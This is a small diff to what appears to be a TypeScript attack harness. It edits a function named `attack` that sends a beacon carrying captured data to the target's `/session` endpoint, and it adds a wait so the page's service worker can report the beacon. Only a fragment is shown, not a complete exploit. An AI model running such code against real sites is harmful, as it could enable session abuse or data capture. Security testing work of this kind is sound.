@@ -165,5 +165,7 @@ export async function attack({ origin, rpc, protocol, script }: Target): Promise
     ]),
   );
   navigator.sendBeacon(`${origin}/session`, json.body);
+  // The page's service worker reports the beacon.
+  await new Promise((done) => setTimeout(done, 300));
   return obtained;
 }
